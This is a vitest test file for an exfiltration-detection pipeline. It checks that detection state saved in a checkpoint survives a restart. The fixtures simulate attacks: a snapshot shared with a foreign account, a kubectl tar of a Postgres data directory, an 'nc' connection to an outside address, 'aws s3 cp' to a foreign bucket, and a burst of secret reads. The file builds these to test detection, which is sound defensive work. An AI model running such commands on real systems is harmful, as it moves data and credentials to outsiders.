import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  type Alert,
  type Detection,
  FileCheckpointStore,
  type NetworkFlowEvent,
  type OutflowEvent,
  type PipelineCheckpoint,
  type ProcessInfo,
  type WorkloadIdentity,
} from '@outflow/core';
import { auditEvent, cloudCall, flowEvent, processExec } from '@outflow/testkit';
import { ignoreElements, tap } from 'rxjs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { T1537ConfigInput } from '../../src/index.js';
import { EVIL, OURS } from '../helpers.js';
import { type Restart, restartAt } from './helpers.js';

/**
 * One analytic (or enricher) at a time: state built before a restart is
 * what makes a finding after it. Each case runs the input stopped at `cut`
 * (checkpoint saved to a file at shutdown), then resumes from the
 * checkpoint; the control resumes from the same checkpoint with that
 * component's state removed, and misses the finding.
 */

const T = Date.parse('2024-05-06T10:00:00Z');
const MIN = 60_000;
const ECR = '111122223333.dkr.ecr.eu-west-1.amazonaws.com';
const ORG: T1537ConfigInput = { organization: { accounts: [OURS] }, cluster: { name: 'prod' }, images: { trustedRegistries: [ECR] } };

let dir: string;
let stores = 0;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'outflow-checkpoint-analytics-'));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** `restartAt` with a fresh checkpoint store under this file's directory and the default configuration. */
function restart(
  events: readonly OutflowEvent[],
  cut: number,
  options: { config?: T1537ConfigInput; resumeWith?: T1537ConfigInput; strip?: string[]; probe?: Detection; mangle?: (c: PipelineCheckpoint) => void } = {},
): Promise<Restart> {
  const store = new FileCheckpointStore(join(dir, `store-${++stores}`, 'checkpoint.json'));
  return restartAt(events, cut, store, { ...options, config: options.config ?? ORG });
}

const of = (alerts: readonly Alert[], id: string) => alerts.filter((a) => a.detection.id === id);
function state(c: PipelineCheckpoint, owner: string, name: string): Record<string, unknown> {
  const entry = c.detections[owner]?.[name];
  if (!entry) throw new Error(`no state ${owner}/${name} in the checkpoint`);
  return entry.state as Record<string, unknown>;
}

// CloudTrail: EBS snapshot shared with a foreign account, copied by it, then the share revoked.
const SNAP = 'snap-0a1b2c3d4e5f60718';
const ec2 = (time: number, id: string, operation: string, request: unknown, actorAccount = OURS) =>
  cloudCall({
    time,
    sourceId: id,
    service: 'ec2.amazonaws.com',
    operation,
    recipientAccountId: OURS,
    actor: actorAccount === OURS ? { type: 'IAMUser', accountId: OURS, arn: `arn:aws:iam::${OURS}:user/ops` } : { accountId: actorAccount },
    ...(actorAccount === OURS ? {} : { eventType: 'AwsServiceEvent' }),
    request,
  });
const share = (time: number) =>
  ec2(time, 'share', 'ModifySnapshotAttribute', {
    snapshotId: SNAP,
    attributeType: 'CREATE_VOLUME_PERMISSION',
    createVolumePermission: { add: { items: [{ userId: EVIL }] } },
  });
const revoke = (time: number) =>
  ec2(time, 'revoke', 'ModifySnapshotAttribute', {
    snapshotId: SNAP,
    attributeType: 'CREATE_VOLUME_PERMISSION',
    createVolumePermission: { remove: { items: [{ userId: EVIL }] } },
  });
const consume = (time: number) => ec2(time, 'copy', 'SharedSnapshotCopyInitiated', { snapshotId: SNAP }, EVIL);
/** Any other call: moves the watermark. */
const other = (time: number, id: string) => cloudCall({ time, sourceId: id, operation: 'DescribeInstances' });

describe('shared_snapshot_consumed and snapshot_share_story across a restart', () => {
  it('a share held for ordering when the pipeline stopped (in the checkpoint’s order buffer) still correlates the copy after the restart', async () => {
    const events = [share(T), consume(T + 10 * MIN)];
    const r = await restart(events, 1);
    // The watermark (two minutes behind the share) had not released it: held, not yet a remembered share.
    expect((state(r.checkpoint, 'shared_snapshot_consumed', 'order_buffer').items as OutflowEvent[]).map((e) => e.sourceId)).toEqual(['share']);
    expect(state(r.checkpoint, 'shared_snapshot_consumed', 'shares')).toEqual([]);
    expect(of(r.first.alerts, 'shared_snapshot_consumed')).toEqual([]);
    const [copy] = of(r.second.alerts, 'shared_snapshot_consumed');
    expect(copy?.attributes?.['aws.share.correlated']).toBe(true);
    expect(copy?.evidence.map((e) => e.id)).toEqual(['share', 'copy']);
    const control = await restart(events, 1, { strip: ['shared_snapshot_consumed'] });
    expect(of(control.second.alerts, 'shared_snapshot_consumed').map((a) => a.attributes?.['aws.share.correlated'])).toEqual([false]);
  });

  it('a share already handled before the restart (in the checkpoint’s shares) correlates the copy after it', async () => {
    const events = [share(T), other(T + 5 * MIN, 'filler'), consume(T + 10 * MIN)];
    const r = await restart(events, 2);
    expect((state(r.checkpoint, 'shared_snapshot_consumed', 'order_buffer').items as unknown[]).length).toBe(0);
    expect(state(r.checkpoint, 'shared_snapshot_consumed', 'shares')).toEqual([
      { key: SNAP, touched: T, value: { time: T, actor: `arn:aws:iam::${OURS}:user/ops`, grantees: [EVIL], refs: [{ source: 'test', id: 'share', time: T }] } },
    ]);
    expect(of(r.second.alerts, 'shared_snapshot_consumed').map((a) => a.attributes?.['aws.share.correlated'])).toEqual([true]);
    const control = await restart(events, 2, { strip: ['shared_snapshot_consumed'] });
    expect(of(control.second.alerts, 'shared_snapshot_consumed').map((a) => a.attributes?.['aws.share.correlated'])).toEqual([false]);
  });

  it('the story told before the restart (share, copy) is completed by the revoke after it: the same alert, updated to critical, still citing its members', async () => {
    const events = [share(T), other(T + 5 * MIN, 'f1'), consume(T + 10 * MIN), other(T + 15 * MIN, 'f2'), revoke(T + 20 * MIN), other(T + 25 * MIN, 'f3')];
    const r = await restart(events, 4);
    const before = of(r.first.alerts, 'snapshot_share_story');
    expect(before.map((a) => [a.status, a.severity])).toEqual([['new', 'high']]);
    const members = [...of(r.first.alerts, 'ebs_snapshot_shared'), ...of(r.first.alerts, 'shared_snapshot_consumed')].map((a) => a.id);
    expect(members).toHaveLength(2);
    const after = of(r.second.alerts, 'snapshot_share_story');
    expect(after.map((a) => [a.id, a.status, a.severity, a.count])).toEqual([[before[0]?.id, 'update', 'critical', 2]]);
    expect(after[0]?.related).toEqual(members);
    expect(after[0]?.evidence.map((e) => e.id)).toEqual(['share', 'copy', 'revoke']);
    const control = await restart(events, 4, { strip: ['snapshot_share_story'] });
    expect(of(control.second.alerts, 'snapshot_share_story')).toEqual([]);
  });
});

// Kubernetes: kubectl cp through the exec API (logged at two stages), and its tar at runtime.
const CP = ['tar', 'cf', '-', '/var/lib/postgresql/data'];
const execStage = (time: number, stage: string, command: string[], id = 'cp-1', pod = 'postgres-0', namespace = 'data') =>
  auditEvent({
    time,
    sourceId: `${id}-${stage}`,
    auditId: id,
    stage,
    verb: 'create',
    user: { username: 'mallory@example.net' },
    objectRef: { resource: 'pods', subresource: 'exec', namespace, name: pod, apiVersion: 'v1' },
    responseCode: 101,
    command,
    workload: { cluster: 'prod', namespace, pod },
  });
const runtimeTar = (time: number) => {
  const process: ProcessInfo = { pid: 4242, executable: '/bin/tar', args: CP, parent: { executable: '/usr/bin/runc' } };
  return processExec({
    time,
    source: 'tetragon',
    sourceId: 'tar',
    process,
    workload: { cluster: 'prod', namespace: 'data', pod: 'postgres-0', container: 'postgres', image: `${ECR}/data/postgres:16` },
  });
};

describe('kubectl_cp and pod_exec across a restart', () => {
  it('a request logged at ResponseStarted before the restart and ResponseComplete after it is read once; the runtime tar after it folds in', async () => {
    const events = [execStage(T, 'ResponseStarted', CP), execStage(T + 1_000, 'ResponseComplete', CP), runtimeTar(T + 2_000)];
    const r = await restart(events, 1);
    expect(of(r.first.alerts, 'kubectl_cp').map((a) => [a.status, a.count])).toEqual([['new', 1]]);
    expect(of(r.first.alerts, 'pod_exec').map((a) => [a.status, a.count])).toEqual([['new', 1]]);
    const id = of(r.first.alerts, 'kubectl_cp')[0]?.id;
    // After the restart: the second stage is not a second copy; the runtime twin folds into the same alert.
    expect(of(r.second.alerts, 'kubectl_cp').map((a) => [a.id, a.status, a.count, a.evidence.map((e) => e.id)])).toEqual([
      [id, 'update', 2, ['cp-1-ResponseStarted', 'tar']],
    ]);
    expect(of(r.second.alerts, 'pod_exec')).toEqual([]);
    // Without the audit ids, the second stage counts as another exec (and another copy).
    const control = await restart(events, 1, { strip: ['kubectl_cp', 'pod_exec'] });
    expect(of(control.second.alerts, 'kubectl_cp').map((a) => a.count)).toEqual([3]);
    expect(of(control.second.alerts, 'pod_exec').map((a) => a.count)).toEqual([2]);
  });
});

describe('exec_payload across a restart', () => {
  const sync = (time: number) =>
    processExec({
      time,
      source: 'tetragon',
      sourceId: 'sync',
      process: { pid: 100, executable: '/usr/local/bin/aws', args: ['aws', 's3', 'sync', '/backup', 's3://acme-data/db/'] },
      workload: { cluster: 'prod', namespace: 'shop', pod: 'api-0', container: 'api', image: `${ECR}/shop/api:5` },
    });
  const putObject = (time: number, owner: string) =>
    cloudCall({
      time,
      sourceId: 'put',
      service: 's3.amazonaws.com',
      operation: 'PutObject',
      recipientAccountId: owner,
      actor: { type: 'AssumedRole', accountId: owner, arn: `arn:aws:sts::${owner}:assumed-role/writer/s` },
      request: { bucketName: 'acme-data', key: 'x' },
      resources: [{ type: 'AWS::S3::Bucket', arn: 'arn:aws:s3:::acme-data', accountId: owner }],
    });

  it('a cloud copy waiting for its bucket owner when the pipeline stopped is judged after the restart, with the owner learned then', async () => {
    const events = [sync(T), putObject(T + MIN, EVIL), other(T + 30 * MIN, 'later')];
    const r = await restart(events, 1);
    expect((state(r.checkpoint, 'exec_payload', 'pending').items as { time: number; event: OutflowEvent }[]).map((p) => [p.time, p.event.sourceId])).toEqual([
      [T + 10 * MIN, 'sync'],
    ]);
    // Not judged at shutdown (the checkpoint holds it): judged once, after the restart.
    expect(of(r.first.alerts, 'exec_payload')).toEqual([]);
    expect(of(r.second.alerts, 'exec_payload').map((a) => [a.status, a.severity, a.attributes?.['exec.payload.bucket.ownership']])).toEqual([
      ['new', 'high', 'foreign'],
    ]);
    const control = await restart(events, 1, { strip: ['exec_payload'] });
    expect(of(control.second.alerts, 'exec_payload')).toEqual([]);
  });

  it('a destination named by a command before the restart is still watched after it: the flow that reaches it confirms the transfer', async () => {
    const nc = execStage(T, 'ResponseComplete', ['nc', '203.0.113.99', '8080'], 'nc-1', 'api-0', 'shop');
    const flow = flowEvent({
      time: T + 20_000,
      sourceId: 'flow',
      src: { address: '10.20.0.7', port: 40000 },
      dst: { address: '203.0.113.99', port: 8080 },
      bytes: 5_000_000,
      workload: { cluster: 'prod', namespace: 'shop', pod: 'api-0' },
    });
    const r = await restart([nc, flow], 1);
    expect(of(r.first.alerts, 'exec_payload').map((a) => a.attributes?.['exec.payload.categories'])).toEqual([['network_tool']]);
    const contacted = of(r.second.alerts, 'exec_payload');
    expect(contacted.map((a) => [a.severity, a.attributes?.['exec.payload.contacted'], a.evidence.map((e) => e.id)])).toEqual([
      ['high', true, ['flow', 'nc-1-ResponseComplete']],
    ]);
    const control = await restart([nc, flow], 1, { strip: ['exec_payload'] });
    expect(of(control.second.alerts, 'exec_payload')).toEqual([]);
  });
});

const secretGet = (time: number, name: string, user = 'eve@acme.example') =>
  auditEvent({
    time,
    sourceId: `get-${name}`,
    auditId: `get-${name}`,
    verb: 'get',
    user: { username: user },
    objectRef: { resource: 'secrets', namespace: 'shop', name, apiVersion: 'v1' },
    responseCode: 200,
  });

describe('secret_harvesting across a restart', () => {
  it('two secrets read before the restart and one after make the burst', async () => {
    const events = [secretGet(T, 'db'), secretGet(T + 30_000, 'api-key'), secretGet(T + 60_000, 'registry')];
    const r = await restart(events, 2);
    expect(of(r.first.alerts, 'secret_harvesting')).toEqual([]);
    expect(of(r.second.alerts, 'secret_harvesting').map((a) => [a.dedupKey, a.attributes?.['k8s.secret.names']])).toEqual([
      ['eve@acme.example|burst', ['shop/db', 'shop/api-key', 'shop/registry']],
    ]);
    const control = await restart(events, 2, { strip: ['secret_harvesting'] });
    expect(of(control.second.alerts, 'secret_harvesting')).toEqual([]);
  });
});

// A pod created from an untrusted image (audit), with an address.
const podObject = (name: string, ip: string, image: string) => ({
  kind: 'Pod',
  apiVersion: 'v1',
  metadata: { name, namespace: 'shop', uid: `uid-${name}`, creationTimestamp: new Date(T).toISOString() },
  spec: { serviceAccountName: 'toolbox-sa', nodeName: 'node-1', containers: [{ name: 'main', image }] },
  status: { phase: 'Running', podIP: ip, podIPs: [{ ip }], startTime: new Date(T).toISOString() },
});
const createPod = (time: number, name: string, ip: string, image: string) =>
  auditEvent({
    time,
    sourceId: `create-${name}`,
    auditId: `create-${name}`,
    verb: 'create',
    user: { username: 'mallory@example.net' },
    objectRef: { resource: 'pods', namespace: 'shop', name, apiVersion: 'v1' },
    responseCode: 201,
    requestObject: podObject(name, ip, image),
    responseObject: podObject(name, ip, image),
  });

describe('untrusted_image_sensitive_access across a restart', () => {
  it('a pod from an untrusted image learned before the restart is blamed for a secret its service account reads after it', async () => {
    const events = [
      createPod(T, 'toolbox-1', '10.20.0.9', 'docker.io/hackertools/toolbox:latest'),
      secretGet(T + MIN, 'db', 'system:serviceaccount:shop:toolbox-sa'),
    ];
    const r = await restart(events, 1);
    expect(of(r.second.alerts, 'untrusted_image_sensitive_access').map((a) => [a.dedupKey, a.attributes?.['untrusted.attribution']])).toEqual([
      ['prod/shop/toolbox-1|secret_api', 'service_account'],
    ]);
    const control = await restart(events, 1, { strip: ['untrusted_image_sensitive_access'] });
    expect(of(control.second.alerts, 'untrusted_image_sensitive_access')).toEqual([]);
  });
});

/** A detection that records the workload the enrichers gave each flow. */
function flowProbe(seen: (WorkloadIdentity | undefined)[]): Detection {
  return {
    id: 'flow_probe',
    title: 'records enriched flows',
    kinds: ['network_flow'],
    connect: (events$) =>
      events$.pipe(
        tap((e) => seen.push((e as NetworkFlowEvent).src.workload)),
        ignoreElements(),
      ),
  };
}

describe('the enrichers’ learned state across a restart', () => {
  it('workload identity: a pod learned from the audit stream before the restart names the flows from its address after it', async () => {
    const events = [
      createPod(T, 'web-1', '10.20.0.9', `${ECR}/shop/web:1`),
      flowEvent({ time: T + MIN, sourceId: 'f', src: { address: '10.20.0.9', port: 40000 } }),
    ];
    const seen: (WorkloadIdentity | undefined)[] = [];
    const r = await restart(events, 1, { probe: flowProbe(seen) });
    expect(r.checkpoint.detections['processor:t1537.workload_identity']?.state?.version).toMatch(/^workload_identity\.live\/1\+/);
    expect(seen.map((w) => w && `${w.cluster}/${w.namespace}/${w.pod} ${w.image}`)).toEqual([`prod/shop/web-1 ${ECR}/shop/web:1`]);
    seen.length = 0;
    await restart(events, 1, { probe: flowProbe(seen), strip: ['processor:t1537.workload_identity'] });
    expect(seen).toEqual([undefined]);
  });

  it('bucket owners: an owner learned from CloudTrail before the restart judges a cloud copy after it at once', async () => {
    const put = cloudCall({
      time: T,
      sourceId: 'put',
      service: 's3.amazonaws.com',
      operation: 'PutObject',
      recipientAccountId: EVIL,
      actor: { accountId: EVIL, arn: `arn:aws:sts::${EVIL}:assumed-role/w/s` },
      request: { bucketName: 'drop-zone', key: 'x' },
      resources: [{ type: 'AWS::S3::Bucket', arn: 'arn:aws:s3:::drop-zone', accountId: EVIL }],
    });
    const cp = processExec({
      time: T + MIN,
      source: 'tetragon',
      sourceId: 'cp',
      process: { pid: 7, executable: '/usr/local/bin/aws', args: ['aws', 's3', 'cp', '/tmp/x.gz', 's3://drop-zone/'] },
      workload: { cluster: 'prod', namespace: 'shop', pod: 'api-0', container: 'api', image: `${ECR}/shop/api:5` },
    });
    const r = await restart([put, cp], 1);
    expect(r.second.bundle.environment.buckets.ownerOf('drop-zone')).toBe(EVIL);
    expect(of(r.second.alerts, 'exec_payload').map((a) => a.attributes?.['exec.payload.bucket.ownership'])).toEqual(['foreign']);
    const control = await restart([put, cp], 1, { strip: ['processor:t1537.bucket_owners'] });
    expect(control.second.bundle.environment.buckets.ownerOf('drop-zone')).toBeUndefined();
    expect(of(control.second.alerts, 'exec_payload').map((a) => a.attributes?.['exec.payload.bucket.ownership'])).toEqual(['unknown']);
  });

  it('bucket owners: s3_copy_external judges a copy after the restart by the owners of both buckets learned before it', async () => {
    const learn = (time: number, id: string, bucket: string, owner: string) =>
      cloudCall({
        time,
        sourceId: id,
        service: 's3.amazonaws.com',
        operation: 'PutBucketTagging',
        recipientAccountId: owner,
        actor: { accountId: owner, arn: `arn:aws:iam::${owner}:user/admin` },
        request: { bucketName: bucket },
      });
    // The copy's record names no resources: only the learned owners tell the direction.
    const copy = cloudCall({
      time: T + MIN,
      sourceId: 'copy-object',
      service: 's3.amazonaws.com',
      operation: 'CopyObject',
      recipientAccountId: OURS,
      actor: { accountId: OURS, arn: `arn:aws:iam::${OURS}:user/ops` },
      request: { bucketName: 'drop-zone', key: 'db.dump', 'x-amz-copy-source': 'acme-data/db.dump' },
    });
    const events = [learn(T, 'own', 'acme-data', OURS), learn(T + 1_000, 'theirs', 'drop-zone', EVIL), copy];
    const r = await restart(events, 2);
    expect(of(r.second.alerts, 's3_copy_external')).toHaveLength(1);
    expect(of(r.second.alerts, 's3_copy_external')[0]?.explanation.summary).toMatch(/to drop-zone, a bucket of account 999988887777/);
    const control = await restart(events, 2, { strip: ['processor:t1537.bucket_owners'] });
    expect(of(control.second.alerts, 's3_copy_external')).toEqual([]);
  });
});

describe('versions and unreadable state', () => {
  const burst = [secretGet(T, 'db'), secretGet(T + 30_000, 'api-key'), secretGet(T + 60_000, 'registry')];

  it('a config change that alters a window relearns that state (counted, logged) and keeps the rest', async () => {
    const resumeWith: T1537ConfigInput = { ...ORG, analytics: { secret_harvesting: { params: { windowMs: 900_000 } } } };
    const r = await restart(burst, 2, { resumeWith });
    // The reads of the old window are not mixed into the new one: no burst from two remembered reads and one new.
    expect(of(r.second.alerts, 'secret_harvesting')).toEqual([]);
    expect(r.second.total('errors', { component: 'secret_harvesting', reason: 'checkpoint_version_mismatch' })).toBe(1);
    // Only that state: the audit ids (same version) and every other component's state were restored.
    expect(r.second.total('errors', { reason: 'checkpoint_version_mismatch' })).toBe(1);
    // The same config again restores it (the counted mismatch is the config change, not noise).
    const same = await restart(burst, 2);
    expect(same.second.total('errors', { reason: 'checkpoint_version_mismatch' })).toBe(0);
    expect(of(same.second.alerts, 'secret_harvesting')).toHaveLength(1);
  });

  it('events held for ordering survive a config change that relearns the analytic’s other state', async () => {
    const events = [share(T), consume(T + 10 * MIN)];
    const resumeWith: T1537ConfigInput = { ...ORG, analytics: { shared_snapshot_consumed: { params: { shareTtlMs: 7 * 86_400_000 } } } };
    const r = await restart(events, 1, { resumeWith });
    expect(r.second.total('errors', { component: 'shared_snapshot_consumed', reason: 'checkpoint_version_mismatch' })).toBe(1);
    // The share was held (not yet learned): replayed from the order buffer, it still enables the copy.
    expect(of(r.second.alerts, 'shared_snapshot_consumed').map((a) => a.attributes?.['aws.share.correlated'])).toEqual([true]);
  });

  it('an enricher relearns when its state changes meaning (another cluster name keys the pods differently)', async () => {
    const events = [
      createPod(T, 'web-1', '10.20.0.9', `${ECR}/shop/web:1`),
      flowEvent({ time: T + MIN, sourceId: 'f', src: { address: '10.20.0.9', port: 40000 } }),
    ];
    const seen: (WorkloadIdentity | undefined)[] = [];
    const r = await restart(events, 1, { probe: flowProbe(seen), resumeWith: { ...ORG, cluster: { name: 'prod-2' } } });
    expect(r.second.total('errors', { component: 't1537.workload_identity', reason: 'checkpoint_version_mismatch' })).toBe(1);
    expect(seen).toEqual([undefined]);
  });

  it('unreadable state is counted and relearned; the pipeline runs on', async () => {
    const r = await restart(burst, 2, {
      mangle: (c) => {
        const entry = c.detections.secret_harvesting?.identities;
        if (entry) entry.state = { sweep: 0, clock: null, identities: [{ key: 'eve@acme.example', touched: T, value: { reads: 'not a list' } }] };
      },
    });
    expect(r.second.total('errors', { component: 'secret_harvesting', reason: 'checkpoint_restore_failed' })).toBe(1);
    expect(of(r.second.alerts, 'secret_harvesting')).toEqual([]);
    expect(r.second.deadLetter.entries()).toEqual([]);
  });
});
